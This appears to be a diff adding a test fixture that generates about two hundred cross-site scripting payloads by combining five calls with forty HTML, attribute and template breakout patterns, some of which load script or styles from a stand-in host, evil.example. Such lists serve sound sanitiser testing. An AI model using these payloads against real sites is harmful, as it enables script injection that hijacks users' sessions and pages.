@@ -1,0 +1,48 @@
+const CALLS = ['alert(1)', 'pwned()', 'window.pwned=1', "import('//evil.example')", 'print()']
+
+/** Ways out of a text and into a page, each with a mark where the call goes. */
+const WAYS = [
+  '<script>CALL</script>',
+  '</script><script>CALL</script>',
+  '</style><script>CALL</script>',
+  '</title><script>CALL</script>',
+  '</textarea><script>CALL</script>',
+  '--><script>CALL</script>',
+  ']]><script>CALL</script>',
+  '"><script>CALL</script>',
+  "'><script>CALL</script>",
+  '<scr<script>ipt>CALL</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT><!-- CALL -->',
+  '<img src=x onerror=CALL>',
+  '"><img src=x onerror="CALL">',
+  '<img src="/icon.svg" onload=CALL>',
+  '<svg onload=CALL>',
+  '<svg><script>CALL</script></svg>',
+  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
+  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
+  '<iframe src="javascript:CALL"></iframe>',
+  '<object data="javascript:CALL"></object>',
+  '<embed src="javascript:CALL">',
+  '<base href="//evil.example/"><!-- CALL -->',
+  '<meta http-equiv="refresh" content="0;url=javascript:CALL">',
+  '<link rel=stylesheet href="//evil.example/x.css"><!-- CALL -->',
+  '<body onload=CALL>',
+  '<details open ontoggle=CALL>',
+  '<input autofocus onfocus=CALL>',
+  '<video><source onerror=CALL></video>',
+  '<a href="javascript:CALL">x</a>',
+  '<form action="javascript:CALL"><button>x</button></form>',
+  '" onmouseover="CALL" x="',
+  "' autofocus onfocus='CALL' x='",
+  'javascript:CALL',
+  'data:text/html,<script>CALL</script>',
+  '\\u003cscript\\u003eCALL\\u003c/script\\u003e',
+  '&lt;script&gt;CALL&lt;/script&gt;',
+  '{{CALL}}<%= CALL %>$' + '{CALL}',
+  '\u2028CALL\u2029//',
+  '"]);CALL;self.__next_f.push([1,"',
+]
+
+/** Two hundred texts that would be programs if anybody took them for markup. */
+export const PAYLOADS = CALLS.flatMap((call) => WAYS.map((way) => way.replaceAll('CALL', call)))
